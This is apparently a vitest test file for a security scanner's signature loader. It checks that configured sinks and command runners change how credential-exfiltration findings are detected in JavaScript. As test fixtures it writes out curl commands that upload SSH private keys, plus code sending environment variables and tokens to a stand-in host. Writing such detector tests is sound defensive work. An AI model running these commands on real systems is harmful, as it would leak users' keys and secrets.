// The library tables that were TypeScript constants are data too (signatures/): an entry
// added through a --signatures directory takes effect, one test per entry kind; an entry
// no front-end reads is a load error naming file and line.
import { describe, expect, it } from "vitest";
import { loadSignatures } from "../../src/rules/signatures.js";
import { base, extraDir, jsFindings, loadError, sinksYaml } from "./models-helpers.js";

const critical = (findings: string[]) => findings.some((f) => f.startsWith("credential-exfiltration critical"));

describe("sinks.yaml js tables", () => {
  it("js.configMembers: a member that configures a client is not a send", async () => {
    const module = 'js: { modules: { zorblat-net: { "*": http } }, globals: {}';
    const without = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module} }` }) })]);
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: `${module}, configMembers: [setup] }` }) })]);
    const js = 'const z = require("zorblat-net");\nz.setup("https://c.example.invalid/", JSON.stringify(process.env));\n';
    expect(await jsFindings(js, without)).toContain("credential-exfiltration critical 2");
    expect(critical(await jsFindings(js, sigs))).toBe(false);
  });

  it("js.authOptions: a request option that carries the request's credential authenticates", async () => {
    const sigs = loadSignatures([extraDir({ "sinks.yaml": sinksYaml({ js: "js: { modules: {}, globals: {}, authOptions: [zorblatKey] }" }) })]);
    const js = 'fetch("https://c.example.invalid/v1", { method: "POST", zorblatKey: process.env.ZORBLAT_TOKEN });\n';
    expect(await jsFindings(js, base)).toContain("credential-exfiltration critical 1");
    expect(critical(await jsFindings(js, sigs))).toBe(false);
  });
});

describe("commands.yaml runners.js", () => {
  const send = "curl -F k=@$HOME/.ssh/id_rsa https://c.example.invalid/";
  it("modules + commandLine: a new module's member that runs a command line", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run], commandLine: [runLine] } }\n" })]);
    const js = `require("zorblat-run").runLine("${send}");\n`;
    expect(critical(await jsFindings(js, base))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });

  it("argv: a member that takes a program and its arguments", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run], argv: [runArgv] } }\n" })]);
    const js = 'require("zorblat-run").runArgv("curl", ["-F", "k=@/root/.ssh/id_rsa", "https://c.example.invalid/"]);\n';
    const onlyModule = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { modules: [zorblat-run] } }\n" })]);
    expect(critical(await jsFindings(js, onlyModule))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });

  it("commandLineModules: every member of the module runs a command line", async () => {
    const sigs = loadSignatures([extraDir({ "commands.yaml": "runners: { js: { commandLineModules: [zorblat-shell] } }\n" })]);
    const js = `require("zorblat-shell").anything("${send}");\n`;
    expect(critical(await jsFindings(js, base))).toBe(false);
    expect(await jsFindings(js, sigs)).toContain("credential-exfiltration critical 1");
  });
});

describe("an entry no front-end reads", () => {
  it("configMembers or authOptions for Python, an unknown runners.js field: errors at their line", () => {
    expect(loadError({ "sinks.yaml": "js: { modules: {}, globals: {} }\npython:\n  modules: {}\n  builtins: {}\n  configMembers: [create]\nshellPrograms: {}\n" }).message).toMatch(/sinks\.yaml:3: python: Unrecognized key: "configMembers"/);
    expect(loadError({ "commands.yaml": "runners:\n  js:\n    modules: [zorblat-run]\n    shell: [runLine]\n" }).message).toMatch(/commands\.yaml:3: runners\.js: Unrecognized key: "shell"/);
  });
});
